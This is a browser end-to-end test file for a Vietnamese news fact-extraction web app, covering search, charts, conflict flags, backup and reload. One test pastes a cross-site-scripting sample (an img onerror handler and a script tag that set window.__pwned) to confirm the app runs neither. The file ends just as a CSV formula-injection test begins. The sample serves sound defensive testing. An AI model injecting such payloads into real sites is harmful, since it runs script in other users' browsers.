// The web app in headless Chromium (Debian's, via playwright-core; no browser
// is downloaded): paste, upload, search, reload, privacy and hostile input.
// make test-web serves web/ with scripts/serve and runs this.
import test from 'node:test';
import assert from 'node:assert';
import fs from 'node:fs';
import path from 'node:path';
import { root, serve, launch, open } from './harness.mjs';
import ExcelJS from 'exceljs';

const port = Number(process.env.WEB_PORT || 8093);
let base;
const golden = path.join(root, 'extract/testdata/golden');
const shots = path.join(root, 'bin/screens');
const seeds = fs.readdirSync(golden).filter(f => f.startsWith('seed-') && f.endsWith('.txt')).map(f => path.join(golden, f));

let server, browser, page;
const requests = [];
const failed = []; // responses of 400 and over (a missing favicon was one on every load)

test.before(async () => {
  fs.mkdirSync(shots, { recursive: true });
  ({ base, server } = await serve(port));
  browser = await launch();
  page = await (await browser.newContext()).newPage();
  page.on('request', r => requests.push(r.url()));
  page.on('response', r => { if (r.status() >= 400) failed.push(`${r.status()} ${r.url()}`); });
  await page.goto(base);
  await page.waitForSelector('body[data-ready="1"]', { timeout: 60000 });
});
test.after(async () => { await browser?.close(); server?.kill(); });

// the table is drawn a slice at a time: read it once it is all there
// rows reads the table once it is drawn and has stayed the same for a moment:
// an import schedules redraws (every 400 ms while articles arrive), and a
// reading between two of them sees the older table
const rows = async () => {
  const read = () => page.$$eval('#facts tbody tr', trs => trs.map(tr => [...tr.children].map(td => td.textContent)));
  let last = null;
  for (let k = 0; k < 20; k++) {
    await page.waitForSelector('#facts[data-state="done"]');
    const now = JSON.stringify(await read());
    if (now === last) break;
    last = now;
    await new Promise(r => setTimeout(r, 250));
  }
  return read();
};
const count = () => page.textContent('#count');
// chartOf sets the chart's menus in their order: { indicator: 'iip', … }
const chartOf = async menus => {
  for (const [name, value] of Object.entries(menus)) await page.selectOption(`#chart-${name}`, value);
  await page.waitForSelector('#charts[data-state="done"]');
};

test('paste seed 000: the IIP fact and the ranking', async () => {
  await page.fill('#paste', fs.readFileSync(seeds[0], 'utf8'));
  await page.click('#analyze');
  await page.waitForSelector('#facts tbody tr');
  const facts = await rows();
  assert.ok(facts.some(r => r[0] === 'Chỉ số SXCN (IIP)' && r[3] === 'tháng 1/2024' && r[4] === 'tăng/giảm' && r[5] === 'so với cùng kỳ' && r[6] === '18,3%'),
    JSON.stringify(facts.slice(0, 3)));
  const ranking = await page.textContent('#articles .ranking');
  assert.match(ranking, /cao nhất tháng 1\/2024: Trà Vinh, Quảng Ninh/);
  assert.strictEqual(ranking.split(',').length, 17);
  await page.screenshot({ path: path.join(shots, 'paste.png'), fullPage: true });
});

test('a figure in the reader shows its fields on click', async () => {
  await page.click('#articles li:first-child a');
  await page.waitForSelector('#reader mark.fact');
  const mark = page.locator('#reader mark.fact', { hasText: '18,3%' }).first();
  await mark.click();
  const detail = await page.textContent('#fact-detail');
  assert.match(detail, /Chỉ số SXCN \(IIP\)/);
  assert.match(detail, /tháng 1\/2024/);
  assert.match(detail, /so với cùng kỳ/);
  // and which words gave them: the period named in the sentence, the verb
  assert.match(detail, /Vì sao đọc như vậy/);
  assert.match(detail, /kỳ«tháng 1\/2024» \(trong mệnh đề\)/);
  assert.match(detail, /loại«tăng» \(trong mệnh đề\)/);
  await page.locator('#reader').screenshot({ path: path.join(shots, 'reader.png') });
  await page.keyboard.press('Escape');
  assert.ok(await page.$eval('#fact-detail', d => d.hidden), 'Escape closes the detail');
});

test('upload the five seeds: five articles, the near-duplicate pair grouped', async () => {
  await page.setInputFiles('#files', seeds);
  await page.waitForFunction(() => document.getElementById('count').textContent === '(5)', null, { timeout: 60000 });
  const dups = await page.$$eval('#articles .dup', ds => ds.map(d => d.textContent));
  assert.strictEqual(dups.length, 2, JSON.stringify(dups));
  // each delete button says which article it deletes; the inputs have names
  const dels = await page.$$eval('#articles li > button', bs => bs.map(b => b.getAttribute('aria-label')));
  assert.strictEqual(new Set(dels).size, dels.length, JSON.stringify(dels));
  assert.ok(dels.every(d => /^Xóa: ./.test(d)), JSON.stringify(dels));
  for (const id of ['paste', 'search', 'fact-filter']) assert.ok(await page.getAttribute('#' + id, 'aria-label'), id);
});

test('facts filter without diacritics, sort, and merge into 2025 provinces', async () => {
  await page.fill('#fact-filter', 'bac giang exports');
  let facts = await rows();
  assert.ok(facts.length > 0 && facts.every(r => r[0] === 'Xuất khẩu' && r[2] === 'Bắc Giang'), JSON.stringify(facts));
  await page.check('#merge-2025');
  facts = await rows();
  assert.ok(facts.length > 0 && facts.every(r => r[2] === 'Bắc Ninh ← Bắc Giang'), JSON.stringify(facts)); // Bắc Giang is part of Bắc Ninh since 2025, and says so
  await page.uncheck('#merge-2025');
  await page.fill('#fact-filter', 'iip change');
  await page.click('#facts th:nth-child(7)'); // value, ascending
  facts = await rows();
  const values = facts.map(r => Number(r[6].replace('%', '').replace(',', '.')));
  assert.ok(values.length > 5);
  assert.deepStrictEqual(values, [...values].sort((a, b) => a - b));
  assert.strictEqual(await page.getAttribute('#facts th:nth-child(7)', 'aria-sort'), 'ascending');
  // by keyboard alone: the region header, focused, sorts on Enter
  await page.focus('#facts th:nth-child(3)');
  await page.keyboard.press('Enter');
  facts = await rows();
  assert.strictEqual(await page.getAttribute('#facts th:nth-child(3)', 'aria-sort'), 'ascending');
  assert.strictEqual(await page.getAttribute('#facts th:nth-child(7)', 'aria-sort'), 'none');
  const regions = facts.map(r => r[2]);
  assert.deepStrictEqual(regions, [...regions].sort((a, b) => a.localeCompare(b, 'vi', { sensitivity: 'base' })), JSON.stringify(regions.slice(0, 8)));
  // a column's menu: its values with counts; choosing one filters the table
  await page.fill('#fact-filter', '');
  await page.waitForFunction(() => document.querySelectorAll('#col-filter-0 option').length > 2);
  const menu = await page.$$eval('#col-filter-0 option', os => os.map(o => [o.value, o.textContent]));
  const exportsOpt = menu.find(([v]) => v === 'Xuất khẩu');
  assert.ok(exportsOpt && /^Xuất khẩu \(\d+\)$/.test(exportsOpt[1]), JSON.stringify(menu));
  await page.selectOption('#col-filter-0', 'Xuất khẩu');
  facts = await rows();
  assert.strictEqual(facts.length, Number(/\((\d+)\)/.exec(exportsOpt[1])[1]));
  assert.ok(facts.every(r => r[0] === 'Xuất khẩu'));
  const regionMenu = await page.$$eval('#col-filter-2 option', os => os.map(o => o.textContent));
  assert.ok(regionMenu.includes('Bắc Giang (' + facts.filter(r => r[2] === 'Bắc Giang').length + ')'), JSON.stringify(regionMenu));
  await page.selectOption('#col-filter-0', '');
  // a province by any of its names, a quarter as people write it
  await page.fill('#fact-filter', '');
  await page.fill('#paste', 'Xuất khẩu của TP.HCM quý I/2024\n\nKim ngạch xuất khẩu của TP.HCM quý I/2024 ước đạt 10,2 tỷ USD, tăng 8,1% so với cùng kỳ năm trước.\n');
  await page.click('#analyze');
  await page.waitForFunction(() => [...document.querySelectorAll('#articles a')].some(a => a.textContent === 'Xuất khẩu của TP.HCM quý I/2024'));
  await page.fill('#fact-filter', 'TP.HCM');
  facts = await rows();
  assert.ok(facts.length > 0 && facts.every(r => r[2] === 'Hồ Chí Minh'), JSON.stringify(facts.slice(0, 3)));
  await page.fill('#fact-filter', 'Sài Gòn');
  assert.strictEqual((await rows()).length, facts.length);
  await page.fill('#fact-filter', 'hcm xuất khẩu quý I');
  facts = await rows();
  assert.ok(facts.length > 0 && facts.every(r => /^quý I\/\d{4}$/.test(r[3])), JSON.stringify(facts.slice(0, 3)));
  await page.fill('#fact-filter', '');
});

test('two articles that disagree are flagged side by side', async () => {
  for (const [title, v, site] of [['Bắc Ninh: sản xuất công nghiệp tháng 2', '5,2', 'a'], ['IIP Bắc Ninh tháng 2/2024', '6,8', 'b']]) {
    await page.fill('#paste', `${title}\n\nChỉ số sản xuất công nghiệp (IIP) tỉnh Bắc Ninh tháng 2/2024 ước tăng ${v}% so với cùng kỳ năm trước.\n`);
    await page.click('#analyze');
    await page.waitForFunction(t => [...document.querySelectorAll('#articles a')].some(a => a.textContent === t), title);
  }
  await page.check('#conflicts-only');
  await page.waitForFunction(() => document.querySelectorAll('#facts tbody tr.conflict').length === 2);
  const facts = await rows();
  assert.deepStrictEqual(facts.map(r => [r[2], r[6], r[8]]).sort(), [
    ['Bắc Ninh', '5,2%', '⚠ 6,8% (IIP Bắc Ninh tháng 2/2024)'],
    ['Bắc Ninh', '6,8%', '⚠ 5,2% (Bắc Ninh: sản xuất công nghiệp tháng 2)'],
  ]);
  assert.match(await page.textContent('#conflicts-count'), /1 số liệu vênh/);
  await page.locator('#facts-area').screenshot({ path: path.join(shots, 'conflicts.png') });
  await page.click('#facts tbody tr.conflict td:last-child a'); // opens the other article at its figure
  await page.waitForSelector('#reader mark.fact.focus');
  await page.uncheck('#conflicts-only');
});

test('charts render with data points', async () => {
  const points = id => page.evaluate(id => {
    const c = Chart.getChart(document.getElementById(id));
    return c ? c.data.datasets.reduce((n, d) => n + d.data.filter(v => v != null).length, 0) : 0;
  }, id);
  assert.ok(await points('chart-time') > 0);
  await page.selectOption('#chart-indicator', 'exports');
  assert.ok(await points('chart-regions') > 0);
  await page.locator('#charts').screenshot({ path: path.join(shots, 'charts.png') });
});

// A chart is one measure: every figure on it shares indicator, sector, kind,
// basis, period grain and unit; its axis runs in time; where articles
// disagree the spread is drawn; its menus say the table's names.
test('charts: one measure, in period order, disagreement shown, named as the table names them', async () => {
  const grain = p => /^\d{4}-\d{2}$/.test(p) ? 'month' : /-Q\d$/.test(p) ? 'quarter' : /-H\d$/.test(p) ? 'half'
    : /^\d{4}-01\.\.\d{4}-\d{2}$/.test(p) ? 'ytd' : /^\d{4}$/.test(p) ? 'year' : 'other';
  const end = p => { const m = /(\d{4})-(\d{2})$/.exec(p) || /(\d{4})-Q(\d)$/.exec(p) || /(\d{4})-H(\d)$/.exec(p); return m ? +m[1] * 100 + +m[2] * (/-Q/.test(p) ? 3 : /-H/.test(p) ? 6 : 1) : +p.slice(0, 4) * 100 + 12; };
  const series = async () => { await page.waitForSelector('#charts[data-state="done"]'); return page.evaluate(() => {
    const c = Chart.getChart(document.getElementById('chart-time'));
    return { s: c.$chiso, labels: c.data.labels, datasets: c.data.datasets.map(d => ({ label: d.label, type: d.type, data: d.data })) };
  }); };
  const offered = await page.$$eval('#chart-indicator option', os => os.map(o => o.value));
  assert.ok(offered.includes('iip') && offered.includes('exports'), JSON.stringify(offered));
  for (const ind of offered) {
    await page.selectOption('#chart-indicator', ind);
    const { s, labels } = await series();
    assert.ok(s.facts.length > 0, ind);
    for (const f of s.facts) {
      assert.deepStrictEqual([f.indicator, f.sector, f.kind, f.basis || null, grain(f.period), f.unit], [s.indicator, s.sector, s.kind, s.basis, s.grain, s.unit], JSON.stringify(f));
    }
    const order = s.periods.map(end);
    assert.deepStrictEqual(order, [...order].sort((a, b) => a - b), JSON.stringify(s.periods));
    assert.strictEqual(labels.length, s.periods.length);
  }
  const menu = await page.$$eval('#chart-indicator option', os => os.map(o => [o.value, o.textContent]));
  assert.ok(menu.some(([v, text]) => v === 'iip' && text === 'Chỉ số SXCN (IIP)'), JSON.stringify(menu));
  // an amount: the country's total (33,57 tỷ USD in January 2024, from the seeds) is not
  // drawn beside two provinces' exports of the same month
  for (const [place, v] of [['Bắc Ninh', '4,5'], ['Hải Phòng', '2,1']]) {
    await page.fill('#paste', `Xuất khẩu ${place} tháng 1/2024\n\nKim ngạch xuất khẩu của ${place} tháng 1/2024 đạt ${v} tỷ USD.\n`);
    await page.click('#analyze');
    await page.waitForFunction(t => [...document.querySelectorAll('#articles a')].some(a => a.textContent === t), `Xuất khẩu ${place} tháng 1/2024`);
  }
  await page.selectOption('#chart-indicator', 'exports');
  await page.selectOption('#chart-sector', 'all');
  await page.selectOption('#chart-kind', 'level');
  await page.selectOption('#chart-grain', 'month');
  await page.selectOption('#chart-period', '2024-01');
  const amounts = await series();
  const bars = await page.evaluate(() => Chart.getChart(document.getElementById('chart-regions')).data.labels);
  assert.deepStrictEqual([amounts.s.regions.sort(), bars], [['Bắc Ninh', 'Hải Phòng'], ['Bắc Ninh', 'Hải Phòng']]);
  assert.strictEqual(amounts.s.scale, 'tỷ USD');
  // the two articles that disagree on Bắc Ninh's IIP for February 2024
  await chartOf({ indicator: 'iip', sector: 'all', kind: 'change', basis: 'yoy', grain: 'month', region: 'Bắc Ninh' });
  const { s, labels, datasets } = await series();
  assert.ok(s.conflicts.includes('Bắc Ninh|2024-02'), JSON.stringify(s.conflicts));
  const spread = datasets.find(d => d.type === 'bar');
  assert.ok(spread, JSON.stringify(datasets.map(d => d.label)));
  assert.deepStrictEqual(spread.data[s.periods.indexOf('2024-02')], [5.2, 6.8]);
  assert.strictEqual(labels[s.periods.indexOf('2024-02')], 'tháng 2/2024'); // the axis says periods as the table does
  assert.match(await page.textContent('#chart-pivot'), /Bắc Ninh/);
  // the chart's data as the CSV export writes it: its figures, from both articles
  const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.click('#chart-csv')]);
  const csvFile = path.join(shots, 'chart.csv');
  await csvDownload.saveAs(csvFile);
  const [csvHead, ...csvRows] = parseCSV(fs.readFileSync(csvFile, 'utf8').replace(/^\ufeff/, ''));
  const at = name => csvHead.indexOf(name);
  const csvFacts = csvRows.filter(r => r.length > 1);
  assert.ok(csvFacts.every(r => r[at('indicator')] === 'iip' && r[at('basis')] === 'yoy' && grain(r[at('period')]) === 'month'), JSON.stringify(csvFacts.slice(0, 3)));
  assert.deepStrictEqual(csvFacts.filter(r => r[at('region')] === 'Bắc Ninh').map(r => [r[at('period')], r[at('value')]]).sort(),
    [['2024-02', '5.2'], ['2024-02', '6.8']]);
  await page.locator('#charts').screenshot({ path: path.join(shots, 'charts-conflict.png') });
  await page.selectOption('#chart-region', '');
});

test('search without diacritics, highlighted snippet, facets filter on click', async () => {
  await page.fill('#search', 'thai nguyen');
  await page.waitForSelector('#results li');
  const first = await page.textContent('#results li:first-child a');
  assert.match(first, /Ngành Công Thương Thái Nguyên/);
  const marks = await page.$$eval('#results li:first-child mark', ms => ms.map(m => m.textContent));
  assert.ok(marks.includes('Thái Nguyên'), JSON.stringify(marks));
  await page.screenshot({ path: path.join(shots, 'search.png'), fullPage: true });
  // the words stand together where they do, in the snippets and in the reader opened from a hit
  await page.fill('#search', 'xuất khẩu');
  await page.waitForFunction(() => [...document.querySelectorAll('#results mark')].some(m => m.textContent === 'xuất khẩu'));
  const together = await page.$$eval('#results mark', ms => ms.map(m => m.textContent.toLowerCase()));
  assert.ok(!together.includes('xuất') && !together.includes('khẩu'), JSON.stringify(together));
  await page.click('#results li:first-child a');
  await page.waitForSelector('#reader mark.hit');
  const inReader = await page.$$eval('#reader mark.hit', ms => ms.map(m => m.textContent.toLowerCase()));
  assert.ok(inReader.length > 0 && inReader.every(m => m === 'xuất khẩu'), JSON.stringify(inReader));
  await page.fill('#search', 'xuat khau');
  await page.waitForSelector('#facets button[data-value="Bắc Giang"]');
  const before = await page.$$eval('#results li', l => l.length);
  await page.click('#facets button[data-field="province"][data-value="Bắc Giang"]');
  await page.waitForSelector('#facets button.on[data-value="Bắc Giang"]');
  const titles = await page.$$eval('#results li > a', as => as.map(a => a.textContent));
  assert.ok(titles.length > 0 && titles.length <= before, JSON.stringify(titles));
  const facet = await page.$$eval('#facets button[data-field="province"]', bs => bs.map(b => b.textContent));
  assert.ok(facet.some(f => /^Bắc Giang \(\d+\)$/.test(f)));
  // the facet narrows the table and the charts to the articles it keeps
  await page.waitForFunction(() => /Bảng và biểu đồ chỉ gồm \d+ bài/.test(document.getElementById('scope-note').textContent));
  const scoped = await rows();
  assert.ok(scoped.length > 0 && scoped.every(r => titles.includes(r[7])), JSON.stringify(scoped.map(r => r[7]).slice(0, 3)));
  await page.click('#facets button.on'); // again: all
  await page.waitForSelector('#facets button.on', { state: 'detached' });
  await page.waitForFunction(() => document.getElementById('scope-note').textContent === '');
  assert.ok((await rows()).length > scoped.length);
  await page.fill('#search', '');
});

test('English interface, and back', async () => {
  await page.click('#lang');
  assert.strictEqual(await page.getAttribute('html', 'lang'), 'en');
  assert.strictEqual(await page.textContent('#analyze'), 'Analyze');
  assert.strictEqual(await page.textContent('#status'), 'Ready.');
  const facts = await rows();
  assert.ok(facts.some(r => r[0] === 'Industrial production index (IIP)' && r[6] === '18.3%'), JSON.stringify(facts.slice(0, 2)));
  await page.screenshot({ path: path.join(shots, 'english.png'), fullPage: true });
  await page.click('#lang');
  assert.strictEqual(await page.textContent('#analyze'), 'Phân tích');
});

test('on a phone: nothing wider than the screen', async () => {
  const { page: phone } = await open(browser, base, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
  await phone.setInputFiles('#files', seeds);
  await phone.waitForFunction(() => document.getElementById('count').textContent === '(5)', null, { timeout: 60000 });
  await phone.click('#articles li a');
  const wide = await phone.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(wide <= 0, `page is ${wide}px wider than the screen`);
  // the table scrolls sideways there, and says so (and only there)
  assert.ok(await phone.isVisible('.swipe-hint'), 'the phone shows the swipe hint');
  assert.ok(!(await page.isVisible('.swipe-hint')), 'the laptop does not');
  await phone.screenshot({ path: path.join(shots, 'phone.png'), fullPage: true });
  // each view on its own, to be looked at (the closing note describes them)
  await phone.fill('#search', 'xuat khau');
  await phone.waitForSelector('#results li');
  for (const [view, sel] of [['search', '#results'], ['reader', '#reader'], ['charts', '#charts'], ['table', '#facts-area']]) {
    await phone.locator(sel).screenshot({ path: path.join(shots, `phone-${view}.png`) });
    if (view === 'reader') await phone.click('#reader-close'); // it covers the screen there
  }
  await phone.close();
});

test('backup: export, delete everything, import, all back', async () => {
  const before = await count();
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-json')]);
  const file = path.join(shots, 'backup.json');
  await download.saveAs(file);
  assert.strictEqual(JSON.parse(fs.readFileSync(file, 'utf8')).articles.length, Number(before.slice(1, -1)));
  page.once('dialog', d => d.accept());
  await page.click('#delete-all');
  await page.waitForFunction(() => document.getElementById('count').textContent === '(0)');
  await page.setInputFiles('#import', { name: 'bad.json', mimeType: 'application/json', buffer: Buffer.from('{"articles": [{"id": 1}]}') });
  await page.waitForFunction(() => /bad\.json/.test(document.getElementById('status').textContent));
  assert.strictEqual(await count(), '(0)'); // a bad file changes nothing
  await page.setInputFiles('#import', file);
  await page.waitForFunction(n => document.getElementById('count').textContent === n, before);
  await page.fill('#search', 'thai nguyen');
  await page.waitForSelector('#results li');
  await page.fill('#search', '');
});

test('a long import can be stopped; what was read stays', async () => {
  const before = Number((await count()).slice(1, -1));
  const files = Array.from({ length: 200 }, (_, k) => ({
    name: `tin-${k}.txt`, mimeType: 'text/plain',
    buffer: Buffer.from(`Xuất khẩu Thái Nguyên, bản tin số ${k}\n\nKim ngạch xuất khẩu của tỉnh Thái Nguyên tháng ${k % 12 + 1}/2023 đạt ${k + 1} triệu USD, tăng ${k % 9 + 1}% so với cùng kỳ năm trước.\n`),
  }));
  await page.setInputFiles('#files', files);
  await page.waitForSelector('#cancel:not([hidden])');
  await page.click('#cancel');
  await page.waitForSelector('#cancel', { state: 'hidden' });
  const status = await page.textContent('#status');
  const m = status.match(/(\d+)\/200/);
  assert.ok(m && Number(m[1]) < 200, status);
  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, before + Number(m[1]));
  await page.reload();
  await page.waitForSelector('body[data-ready="1"]', { timeout: 60000 });
  assert.strictEqual(await count(), `(${before + Number(m[1])})`);
  page.once('dialog', d => d.accept());
  await page.click('#delete-all');
  await page.waitForFunction(() => document.getElementById('count').textContent === '(0)');
});

test('results come a page at a time; a deletion can be undone', async () => {
  const files = Array.from({ length: 25 }, (_, k) => ({
    name: `ban-tin-${k}.txt`, mimeType: 'text/plain',
    buffer: Buffer.from(`Thái Nguyên: bản tin ngân sách số ${k}\n\nThu ngân sách của tỉnh Thái Nguyên tháng ${k % 12 + 1}/2022 đạt ${k + 100} tỷ đồng, tăng ${k % 7 + 1}% so với cùng kỳ năm trước.\n`),
  }));
  await page.setInputFiles('#files', files);
  await page.waitForFunction(() => document.getElementById('status').textContent === 'Đã thêm 25 bài.', null, { timeout: 60000 });
  // the same files again: nothing new, and the status says so
  await page.setInputFiles('#files', files.slice(0, 3));
  await page.waitForFunction(() => document.getElementById('status').textContent === 'Đã thêm 0 bài, 3 bài đã có từ trước.', null, { timeout: 60000 });
  assert.strictEqual(await count(), '(25)');
  await page.fill('#search', 'ngan sach thai nguyen');
  await page.waitForFunction(() => document.querySelectorAll('#results li').length === 20);
  assert.match(await page.textContent('#search-note'), /^20 trong 25 kết quả$/);
  assert.match(await page.textContent('#more-results'), /Xem thêm 5 kết quả/);
  await page.click('#more-results');
  await page.waitForFunction(() => document.querySelectorAll('#results li').length === 25);
  assert.ok(await page.$eval('#more-results', b => b.hidden), 'nothing more to show');
  await page.fill('#search', '');
  // a deletion says what it did and takes it back on request
  const victim = await page.textContent('#articles li:first-child > a');
  await page.click('#articles li:first-child > button');
  await page.waitForFunction(() => document.getElementById('count').textContent === '(24)' && document.querySelector('#status button'));
  assert.match(await page.textContent('#status'), /Đã xóa 1 bài\. Hoàn tác/);
  // the offer to undo stays in sight, wherever the page is scrolled
  const box = await page.$eval('#status', el => { const r = el.getBoundingClientRect(); return [r.top, r.bottom, innerHeight]; });
  assert.ok(box[0] >= 0 && box[1] <= box[2], JSON.stringify(box));
  await page.click('#status button');
  await page.waitForFunction(() => document.getElementById('count').textContent === '(25)');
  // a dozen show until the reader asks for all
  assert.strictEqual(await page.$$eval('#articles > li', l => l.length), 12);
  assert.match(await page.textContent('#list-toggle'), /Hiện cả 25 bài/);
  await page.click('#list-toggle');
  await page.waitForFunction(() => document.querySelectorAll('#articles > li').length === 25);
  const titles = await page.$$eval('#articles li > a', as => as.map(a => a.textContent));
  assert.ok(titles.includes(victim), victim);
  await page.click('#list-toggle');
  await page.waitForFunction(() => document.querySelectorAll('#articles > li').length === 12);
  page.once('dialog', d => d.accept());
  await page.click('#delete-all');
  await page.waitForFunction(() => document.getElementById('count').textContent === '(0)');
});

test('reload keeps everything; the stored list shows before the engine is ready', async () => {
  await page.setInputFiles('#files', seeds);
  await page.waitForFunction(() => document.getElementById('count').textContent === '(5)', null, { timeout: 60000 });
  // a slow network: the engine arrives two seconds late, the list is there before it
  const late = async route => { await new Promise(r => setTimeout(r, 2000)); await route.continue(); };
  await page.route('**/chiso.wasm.gz', late);
  // the views as the reader left them: the table's filter and a chart's menu
  await page.fill('#fact-filter', 'iip');
  await page.selectOption('#chart-indicator', 'exports');
  await page.reload();
  await page.waitForFunction(() => document.getElementById('count').textContent === '(5)' && document.querySelectorAll('#articles li').length === 5);
  assert.strictEqual(await page.getAttribute('body', 'data-ready'), null, 'the list waited for the engine');
  await page.waitForSelector('body[data-ready="1"]', { timeout: 60000 });
  await page.unroute('**/chiso.wasm.gz', late);
  assert.strictEqual(await count(), '(5)');
  assert.strictEqual(await page.inputValue('#fact-filter'), 'iip');
  assert.ok((await rows()).every(r => r[0] === 'Chỉ số SXCN (IIP)'));
  await page.waitForFunction(() => document.getElementById('chart-indicator').value === 'exports');
  await page.fill('#fact-filter', '');
  await page.selectOption('#chart-indicator', 'iip');
  assert.ok((await rows()).length > 20);
  await page.fill('#search', 'xuat khau');
  await page.waitForSelector('#results li');
});

// answersFor types a query and reads what the search shows: its count and
// each hit's title and snippets, once they have stayed the same a moment
const answersFor = async q => {
  await page.fill('#search', '');
  await page.waitForFunction(() => document.getElementById('search-note').textContent === '');
  await page.fill('#search', q);
  await page.waitForFunction(() => document.getElementById('search-note').textContent !== '');
  let last = null;
  for (let k = 0; k < 20; k++) {
    const now = await page.evaluate(() => JSON.stringify([document.getElementById('search-note').textContent,
      [...document.querySelectorAll('#results li')].map(li => li.innerHTML)]));
    if (now === last) break;
    last = now;
    await new Promise(r => setTimeout(r, 300));
  }
  return JSON.parse(last);
};

test('a reload opens the saved index instead of rebuilding it, and answers as before', async () => {
  const saves = async () => +(await page.getAttribute('body', 'data-index-saved') || 0);
  const before = await saves();
  await page.fill('#paste', 'Xuất khẩu Hà Tĩnh quý I/2024\n\nKim ngạch xuất khẩu của tỉnh Hà Tĩnh quý I/2024 ước đạt 312 triệu USD, tăng 8,4% so với cùng kỳ năm trước.\n');
  await page.click('#analyze');
  // the engine saves its index two seconds after the last change
  await page.waitForFunction(n => +(document.body.dataset.indexSaved || 0) > n, before, { timeout: 60000 });
  const queries = ['xuat khau', 'TP.HCM', '"sản xuất công nghiệp"', 'Hà Tĩnh', 'quý I'];
  const answers = [];
  for (const q of queries) answers.push(await answersFor(q));
  assert.ok(answers.every(([note, hits]) => hits.length > 0), JSON.stringify(answers.map(a => a[0])));
  const articlesBefore = await count();

  await page.fill('#search', '');
  const said = [];
  const listen = m => said.push(m.text());
  page.on('console', listen);
  await page.reload();
  await page.waitForSelector('body[data-search-ready="1"]', { timeout: 60000 });
  await page.waitForSelector('body[data-ready="1"]', { timeout: 60000 });
  page.off('console', listen);
  assert.strictEqual(await page.getAttribute('body', 'data-index'), 'opened', `the saved index was opened, not rebuilt: ${said.join(' / ')}`);
  assert.strictEqual(await count(), articlesBefore);
  for (const [k, q] of queries.entries()) assert.deepStrictEqual(await answersFor(q), answers[k], q);

  // without the saved index the stored articles are indexed again, to the same answers
  await page.evaluate(() => new Promise((resolve, reject) => {
    const req = indexedDB.deleteDatabase('chiso-index');
    req.onsuccess = resolve;
    req.onerror = reject;
    req.onblocked = resolve; // the worker's connection goes with the reload
  }));
  await page.fill('#search', '');
  await page.reload();
  await page.waitForSelector('body[data-ready="1"]', { timeout: 60000 });
  assert.strictEqual(await page.getAttribute('body', 'data-index'), 'rebuilt');
  for (const [k, q] of queries.entries()) assert.deepStrictEqual(await answersFor(q), answers[k], q);

  // an article added just before a reload, too soon to be saved: the image
  // lags behind the stored articles, is opened, and the article added to it
  await page.waitForFunction(() => document.body.dataset.indexSaved === '1', null, { timeout: 60000 }); // the rebuilt index
  const savesAtPaste = await saves();
  await page.fill('#paste', 'Xuất khẩu Kon Tum tháng 5/2024\n\nKim ngạch xuất khẩu của tỉnh Kon Tum tháng 5/2024 đạt 41 triệu USD, tăng 6,2% so với cùng kỳ.\n');
  await page.click('#analyze');
  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, Number(articlesBefore.slice(1, -1)) + 1);
  const savedBefore = await saves();
  await page.fill('#search', '');
  await page.reload();
  await page.waitForSelector('body[data-ready="1"]', { timeout: 60000 });
  assert.strictEqual(savedBefore, savesAtPaste, 'the reload came before the article was saved');
  assert.strictEqual(await page.getAttribute('body', 'data-index'), 'opened');
  const [, hits] = await answersFor('Kon Tum');
  assert.ok(hits.some(h => h.includes('Kon Tum')), 'the article the image lacked is found');
});

test('hostile HTML runs nothing', async () => {
  const before = Number((await count()).slice(1, -1));
  await page.fill('#paste', '<p>Kim ngạch xuất khẩu tháng 3/2024 đạt 5 tỷ USD.</p><img src="x" onerror="window.__pwned=1"><script>window.__pwned=2</script>');
  await page.click('#analyze');
  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, before + 1);
  await page.click('#articles li a');
  assert.strictEqual(await page.evaluate(() => window.__pwned), undefined);
  assert.strictEqual(await page.$$eval('#reader img, #reader script, #facts img', e => e.length), 0);
});

test('a 20 MB file is refused with its name; the others are read', async () => {
  const before = Number((await count()).slice(1, -1));
  const big = Buffer.alloc(20 << 20, 'Kim ngạch xuất khẩu tăng 5%. ');
  const small = Buffer.from('Xuất khẩu Hà Nam tháng 4/2024\n\nKim ngạch xuất khẩu của tỉnh Hà Nam tháng 4/2024 đạt 650 triệu USD, tăng 12% so với cùng kỳ.\n');
  await page.setInputFiles('#files', [{ name: 'huge.txt', mimeType: 'text/plain', buffer: big }, { name: 'ha-nam.txt', mimeType: 'text/plain', buffer: small }]);
  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, before + 1, { timeout: 60000 });
  const errors = await page.$$eval('#file-errors li', ls => ls.map(l => l.textContent));
  assert.strictEqual(errors.length, 1);
  assert.match(errors[0], /^huge\.txt: lớn hơn 16 MiB: không phải một bài báo/); // said in the page's language
});

test('files dropped on the page are read', async () => {
  const before = Number((await count()).slice(1, -1));
  const dropped = await page.evaluateHandle(() => {
    const dt = new DataTransfer();
    dt.items.add(new File(['Xuất khẩu Ninh Bình tháng 5/2024\n\nKim ngạch xuất khẩu của tỉnh Ninh Bình tháng 5/2024 đạt 480 triệu USD, tăng 9% so với cùng kỳ.\n'], 'ninh-binh.txt', { type: 'text/plain' }));
    return dt;
  });
  await page.dispatchEvent('body', 'dragover', { dataTransfer: dropped });
  await page.dispatchEvent('body', 'drop', { dataTransfer: dropped });
  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, before + 1);
  assert.ok((await rows()).some(r => r[2] === 'Ninh Bình' && r[6] === '480 triệu USD'));
});

// parseCSV reads RFC 4180 CSV as a spreadsheet does: quoted cells, "" for
// a quote, CRLF or LF between rows.
function parseCSV(text) {
  const rows = [[]];
  let cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rows.at(-1).push(cell); cell = ''; } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      rows.at(-1).push(cell); cell = ''; rows.push([]);
    } else cell += c;
  }
  if (cell !== '' || rows.at(-1).length) rows.at(-1).push(cell); else rows.pop();
  return rows;
}

// A file name and a title copied from a page that start like a formula are
// text in the exported CSV, not formulas a spreadsheet runs; a fall stays a
// negative number.
test('the CSV export is safe to open in a spreadsheet', async () => {
  const before = Number((await count()).slice(1, -1));
